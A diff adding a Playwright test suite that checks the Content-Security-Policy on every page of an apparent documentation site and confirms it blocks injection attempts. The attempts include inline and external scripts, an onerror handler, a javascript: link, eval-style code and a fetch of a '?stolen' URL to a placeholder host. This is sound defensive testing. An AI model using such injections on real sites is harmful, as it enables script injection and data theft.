@@ -1,0 +1,131 @@
+/**
+ * Each page has a Content-Security-Policy, and keeps it: the guard of all tests notes what a browser says of a violation.
+ * Here the policy is shown to be there, and to hold off what it is for.
+ */
+import {readFileSync} from 'node:fs';
+import {join} from 'node:path';
+
+import type {Page} from '@playwright/test';
+
+import {filesBelow} from '../../tools/serve/pages';
+import {buildDir} from '../support/paths';
+import {atRest, expect, test, visit} from '../support/test';
+
+const formulas = '/docs/tutorial/about_gem5/WhyGem5';
+
+/** The policy in a page's HTML, and what stands before it; undefined if it has none. */
+function policyIn(html: string): {readonly policy: string; readonly before: string} | undefined {
+  const found = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html);
+  return found?.[1] === undefined ? undefined : {policy: found[1], before: html.slice(0, found.index)};
+}
+
+test('every page of the build has a policy, before any script or style of it', () => {
+  const pages = [...filesBelow(buildDir)].filter((file) => file.endsWith('.html'));
+  expect(pages.length).toBeGreaterThan(100);
+  for (const file of pages) {
+    const {policy, before} = policyIn(readFileSync(join(buildDir, file), 'utf8')) ?? {policy: '', before: ''};
+    expect(before, file).toMatch(/<meta charset=[^>]*>$/i);
+    expect(before, file).not.toMatch(/<(?:script|style|link)/i);
+    for (const part of ["default-src 'none'", "object-src 'none'", "base-uri 'none'", "connect-src 'self'"])
+      expect(policy.split('; '), file).toContain(part);
+    expect(/script-src ([^;]*)/.exec(policy)?.[1], file).toMatch(/^'self'(?: 'sha256-[\w+/]{43}=')*$/);
+  }
+});
+
+/** What the page's policy holds off of something that a page does, as the browser tells it. */
+async function violations(page: Page, act: () => void | Promise<void>): Promise<string[]> {
+  await page.evaluate(() => {
+    const seen: string[] = [];
+    Object.assign(window, {violations: seen});
+    document.addEventListener('securitypolicyviolation', ({effectiveDirective}) => {
+      seen.push(effectiveDirective);
+    });
+  });
+  await page.evaluate(act);
+  await atRest(page);
+  return page.evaluate(() => (window as unknown as {violations: string[]}).violations);
+}
+
+const injections: readonly {
+  readonly name: string;
+  readonly directive: string;
+  readonly act: () => void | Promise<void>;
+}[] = [
+  {
+    name: 'a script in an element',
+    directive: 'script-src-elem',
+    act: () => {
+      const script = document.createElement('script');
+      script.textContent = 'window.harmed = true';
+      document.body.append(script);
+    },
+  },
+  {
+    name: 'a handler in an attribute',
+    directive: 'script-src-attr',
+    act: () => {
+      const holder = document.createElement('div');
+      holder.innerHTML = '<img src="data:," onerror="window.harmed = true">';
+      document.body.append(holder);
+    },
+  },
+  {
+    name: 'an address that is a script',
+    directive: 'script-src-elem',
+    act: () => {
+      const link = document.createElement('a');
+      link.setAttribute('href', 'javascript:window.harmed = true');
+      document.body.append(link);
+      link.click();
+    },
+  },
+  {
+    name: 'evaluated text',
+    directive: 'script-src',
+    act: () =>
+      // What a test evaluates may evaluate; what the page does by itself may not.
+      new Promise((done) => {
+        setTimeout(() => {
+          done();
+          // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call -- it is to be held off
+          new Function('window.harmed = true')();
+        });
+      }),
+  },
+  {
+    name: 'a script of another origin',
+    directive: 'script-src-elem',
+    act: () => {
+      const script = document.createElement('script');
+      script.src = 'https://elsewhere.example/harm.js';
+      document.body.append(script);
+    },
+  },
+  {
+    name: 'a request to another origin',
+    directive: 'connect-src',
+    act: () =>
+      fetch('https://elsewhere.example/?stolen').then(
+        () => undefined,
+        () => undefined,
+      ),
+  },
+  {
+    name: 'another base for addresses',
+    directive: 'base-uri',
+    act: () => {
+      const base = document.createElement('base');
+      base.href = 'https://elsewhere.example/';
+      document.head.append(base);
+    },
+  },
+];
+
+for (const {name, directive, act} of injections) {
+  test(`holds off ${name}`, async ({page, at, trouble}) => {
+    trouble.allow(/Content Security Policy/, /failed: csp/);
+    await visit(page, at(formulas));
+    expect(await violations(page, act)).toEqual([directive]);
+    expect(await page.evaluate(() => 'harmed' in window)).toBe(false);
+  });
+}
